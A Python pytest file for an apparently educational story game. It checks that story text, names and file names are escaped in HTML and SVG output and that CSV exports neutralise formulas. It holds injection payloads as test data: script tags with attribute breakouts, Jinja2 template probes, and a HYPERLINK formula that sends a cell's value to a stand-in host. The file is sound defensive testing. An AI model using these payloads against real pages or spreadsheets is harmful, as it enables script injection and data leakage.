"""A story's text stays text in the guide and the report, however much it looks like markup or like
a template: HTML tags, ampersands, both quotes, a way out of an attribute, and Jinja2's own `{{ }}`
and `{% %}`. The CSV keeps a spreadsheet from taking a text for a formula."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path

import pytest

from classhelp import MINI, load_ok
from game.classroom import guide
from game.classroom.records import SessionLog
from game.classroom.report import build_report, report_csv, report_html
from game.core import engine

# The longest fits a choice (125 characters); the shortest a name (40).
EVIL = "\"'><script>alert(\"x\" & 'y')</script> &amp; {{ 7*7 }} {% if true %}in{% endif %}"
EVIL_NAME = "\"><script>&amp;{{ 7*7 }}</script>"
EVIL_METER = "<b>&\"'{{ x }}"
EVIL_FILE = "\"'><script>&amp;{{ 7*7 }}.json"  # a file name holds no slash
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")'


class Page(HTMLParser):
    """What a browser would make of a page: its elements, attributes and text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.texts: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.texts.append(data)

    def count(self, text: str) -> int:
        return "".join(self.texts).count(text)


@pytest.fixture(scope="module")
def evil_scenes(tmp_path_factory) -> Path:
    """A folder holding the mini scenario with hostile text in every kind of field the guide and
    the report show (written as YAML double-quoted strings, which JSON's are)."""
    story = MINI.read_text(encoding="utf-8")
    quoted = json.dumps(EVIL, ensure_ascii=False)
    swaps = [("en: \"The hallway\"}", f"en: {quoted}}}"),
             ("  en: Sam is laughed at in the hallway. What do you do?", f"  en: {quoted}"),
             ("    name: Rik", f"    name: {json.dumps(EVIL_NAME)}"),
             ("en: Wellbeing}", f"en: {json.dumps(EVIL_METER)}}}"),
             ("  hallway:\n    place: hallway\n",
              f"  hallway:\n    place: hallway\n    note: {{nl: notitie, en: {quoted}}}\n"),
             ("en: I walk on.}", f"en: {json.dumps(FORMULA)}}}")]
    swaps += [(f"en: {text}}}", f"en: {quoted}}}") for text in (
        "The bell rings. Rik is at Sam's locker.", "I go and stand next to Sam.",
        "Sam watches you go.", "Rik shrugs and leaves.", "Why did you walk on?",
        "What did it do for Sam that you were there?", "Together", "Sam is no longer alone.",
        "A start", "It is a start.", "Alone", "Sam is on his own.")]
    swaps.append(('en: "Talk to someone you trust: your mentor, a parent, the school\'s '
                  'confidential contact."}', f"en: {quoted}}}"))
    for old, new in swaps:
        assert story.count(old) == 1, old
        story = story.replace(old, new)
    folder = tmp_path_factory.mktemp("evil-scenes")
    (folder / "mini.yaml").write_text(story, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def evil(evil_scenes):
    return load_ok(evil_scenes / "mini.yaml")


def assert_stays_text(page: str, least: int) -> Page:
    parsed = Page(page)
    assert not parsed.tags & {"script", "b"}, parsed.tags
    assert not {a for a in parsed.attributes if a.startswith("on") or "'" in a or '"' in a}
    assert "<script" not in page
    assert parsed.count(EVIL) >= least, "the text comes back whole, as it was written"
    return parsed


def test_story_text_stays_text_in_the_guide(evil):
    scenario, _ = evil
    page = guide.guide_html(scenario, "en")
    parsed = assert_stays_text(page, least=10)
    assert parsed.count(EVIL_NAME) >= 2  # in the cast and as the speaker of a beat
    assert parsed.count(EVIL_METER) >= 1  # a meter, in a choice's effects
    assert "{{ 7*7 }}" in page and "{% if true %}" in page


def test_story_text_stays_text_in_the_map(evil):
    scenario, _ = evil
    svg = guide.map_svg(scenario, "en")
    # The map shortens an ending's title to fit its box: the start of it, then "…".
    assert Page(svg).count(EVIL[:20]) >= 1 and "<script" not in svg


def test_story_text_and_file_names_stay_text_in_the_report(evil, evil_scenes):
    scenario, content_hash = evil
    run = engine.start(scenario, "en", content_hash)
    log = SessionLog.begin(run, "class", content_hash)
    log.record_decision(run, run.choose("stand_by_sam"), {"walk_on": 4, "stand_by_sam": 21},
                        False, 30)
    log.record_decision(run, run.choose("tell_mentor"), None, False, 30)
    log.finish(run)
    (log.path.parent / EVIL_FILE).write_text("{", encoding="utf-8")

    report = build_report(log.path.parent, "en", scenes=evil_scenes)
    parsed = assert_stays_text(report_html(report), least=3)  # title, a choice, an ending
    assert parsed.count(EVIL_FILE) == 1  # the damaged file, listed by name

    rows = list(csv.DictReader(io.StringIO(report_csv(report))))
    texts = {row["choice"]: row["choice_text"] for row in rows}
    assert texts["stand_by_sam"] == EVIL
    assert texts["walk_on"] == "'" + FORMULA, "a formula is written as text"
